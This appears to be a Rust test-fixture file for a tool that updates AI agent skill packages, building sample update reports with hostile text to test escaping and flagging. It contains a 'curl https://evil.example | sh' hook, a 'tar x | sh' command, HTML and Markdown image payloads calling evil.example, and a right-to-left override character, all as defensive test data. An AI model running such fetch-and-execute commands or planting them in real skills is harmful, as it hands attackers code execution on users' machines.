//! Sample reports: one with every kind of item, and hostile text.

use std::collections::BTreeMap;

use crate::diff::{DescriptionDiff, FileChange, FileDiff, SkillDiff};
use crate::fetch::history::{CommitLine, Lineage};
use crate::merge::{Conflict, ConflictKind};
use crate::operations::OpError;
use crate::operations::findings::Found;
use crate::operations::policy_check::Refusal;
use crate::operations::report::{Action, Change, Conflicted, Gone, LeftAlone, Newer, Problem};
use crate::operations::update::{Failed, Report};
use crate::policy::{Key, Verdict};
use mdskill_lint::capability::{Capability, Kind};
use mdskill_lint::diagnostic::{Diagnostic, Severity};
use mdskill_lint::span::Position;

/// Text that is not Markdown after it is escaped.
pub(super) const HOSTILE: &str = "@octocat fixes #1 GH-2 <img src=https://evil.example/x> ![x](https://evil.example/y) \u{202e}| `x` </details>\n\n# big";

pub(super) fn change(name: &str) -> Change {
    Change {
        name: name.to_owned(),
        action: Action::Updated,
        source: "github:acme/skills".to_owned(),
        path: format!("skills/{name}"),
        git_ref: Some("main".to_owned()),
        from: Some("1111111aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".to_owned()),
        from_version: None,
        version: None,
        commit: Some("2222222bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb".to_owned()),
        signed_by: None,
        tree: "3333333ccccccccccccccccccccccccccccccccc".to_owned(),
        places: vec![format!(".github/skills/{name}")],
        notes: Vec::new(),
        diff: Some(SkillDiff {
            files: vec![FileDiff {
                path: "SKILL.md".to_owned(),
                change: FileChange::Changed,
                from: None,
                added: Some(3),
                removed: Some(1),
                executable: None,
            }],
            ..SkillDiff::default()
        }),
        lineage: None,
        spec: String::new(),
        skill_commits: None,
        url: Some(format!(
            "https://github.com/acme/skills/tree/2222222/skills/{name}"
        )),
        compare_url: Some("https://github.com/acme/skills/compare/1111111...2222222".to_owned()),
        edited: Vec::new(),
    }
}

pub(super) fn gains(kind: Kind, what: &str, file: &str, line: Option<usize>) -> Capability {
    Capability {
        kind,
        what: what.to_owned(),
        file: file.to_owned(),
        line,
    }
}

fn commit(digit: char, summary: &str) -> CommitLine {
    CommitLine {
        id: digit.to_string().repeat(40).parse().unwrap(),
        summary: summary.to_owned(),
    }
}

/// Returns a report with every kind of item.
pub(super) fn everything() -> Report {
    let mut pdf = change("pdf");
    let diff = pdf.diff.as_mut().unwrap();
    diff.description = Some(DescriptionDiff {
        before: Some("Reads PDF files. Use it for forms.".to_owned()),
        after: Some(HOSTILE.to_owned()),
    });
    diff.gained = vec![
        gains(
            Kind::Hook,
            "curl https://evil.example | sh",
            "SKILL.md",
            Some(5),
        ),
        gains(Kind::UnrestrictedBash, "Bash", "SKILL.md", Some(4)),
        gains(
            Kind::HiddenCharacters,
            "U+202E \u{202e}",
            "SKILL.md",
            Some(9),
        ),
        gains(Kind::Script, "scripts/`run`.sh", "scripts/`run`.sh", None),
        gains(Kind::Command, "tar x | sh", "SKILL.md", Some(30)),
        gains(Kind::Host, "evil.example", "scripts/`run`.sh", Some(2)),
    ];
    let commits = (0..13).map(|number| {
        commit(
            ['a', 'b', 'c'][number % 3],
            &format!("Change {number} for #{number}"),
        )
    });
    pdf.lineage = Some(Lineage::Forward {
        commits: commits.collect(),
    });
    pdf.edited = vec!["SKILL.md".to_owned()];
    pdf.notes = vec!["moved in its repository from a to b".to_owned()];
    pdf.skill_commits = Some(vec![commit('a', "Read forms, too (#12)")]);
    let mut docx = change("docx");
    docx.lineage = pdf.lineage.clone();
    docx.diff.as_mut().unwrap().gained =
        vec![gains(Kind::Host, "docs.example", "SKILL.md", Some(12))];
    let mut far = change("far");
    far.source = "https://gitlab.com/acme/far.git".to_owned();
    far.lineage = Some(Lineage::Rewritten);
    far.compare_url = None;
    far.diff = None;
    let problem = |name: &str, reason: &str| Problem {
        name: name.to_owned(),
        reason: reason.to_owned(),
    };
    Report {
        skills: vec![pdf, docx, far],
        unchanged: 7,
        left_alone: vec![LeftAlone {
            name: "mine".to_owned(),
            place: ".github/skills/mine".to_owned(),
            reason: "mdskill did not install it".to_owned(),
            files: vec!["SKILL.md".to_owned()],
            next: None,
        }],
        conflicts: vec![Conflicted {
            name: "deploy".to_owned(),
            place: ".github/skills/deploy".to_owned(),
            commit: Some("2".repeat(40)),
            is_marked: false,
            is_unresolved: false,
            files: vec![Conflict {
                path: "SKILL.md".to_owned(),
                kind: ConflictKind::Lines,
                hunks: vec![
                    "<<<<<<< yours\n```\nours\n=======\ntheirs </details>\n>>>>>>> main\n"
                        .to_owned(),
                ],
            }],
        }],
        refused: vec![refusal()],
        newer: vec![Newer {
            name: "tagged".to_owned(),
            source: "github:acme/skills".to_owned(),
            git_ref: "^1.2".to_owned(),
            compatible: "v1.3.0".to_owned(),
            newest: "v2.0.0".to_owned(),
        }],
        deleted: vec![Gone {
            name: "old".to_owned(),
            reason: "acme/skills/skills/old is gone upstream".to_owned(),
            successor: None,
        }],
        stuck: vec![problem(
            "tagged",
            "the tag v1 points elsewhere now; --accept-moved-tag follows it",
        )],
        failed: vec![Failed {
            place: "acme/away".to_owned(),
            skills: 2,
            error: OpError::Usage(HOSTILE.to_owned()),
        }],
        diagnostics: Found::of(".github/skills/pdf", vec![finding()]).collect(),
        ..Report::default()
    }
}

fn refusal() -> Refusal {
    Refusal {
        name: "sly".to_owned(),
        source: "github:acme/sly".to_owned(),
        verdict: Verdict {
            key: Key::Deny,
            value: "[\"hooks\"]".to_owned(),
            is_allowed: false,
            reason: HOSTILE.to_owned(),
            hint: None,
        },
    }
}

fn finding() -> Diagnostic {
    let place = Position { line: 7, column: 3 };
    Diagnostic {
        code: "SK302",
        severity: Severity::Warning,
        file: "SKILL.md".to_owned(),
        start: place,
        end: place,
        message: "`references/x.md` is not there, @octocat".to_owned(),
        help: String::new(),
        blocks_loading: false,
        refuses: false,
        excerpt: None,
        fix: None,
        edit_places: Vec::new(),
    }
}

/// A diff of each skill but `far`.
pub(super) fn differences(report: &Report) -> BTreeMap<String, String> {
    let names = report.skills.iter().map(|change| change.name.clone());
    let names = names.filter(|name| name != "far");
    names.map(|name| {
        let diff = format!("--- a/{name}/SKILL.md\n+++ b/{name}/SKILL.md\n@@ -1,2 +1,4 @@\n # {name}\n-old\n+```sh\n+new \u{202e}\n+```` </details> @octocat\n");
        (name, diff)
    }).collect()
}
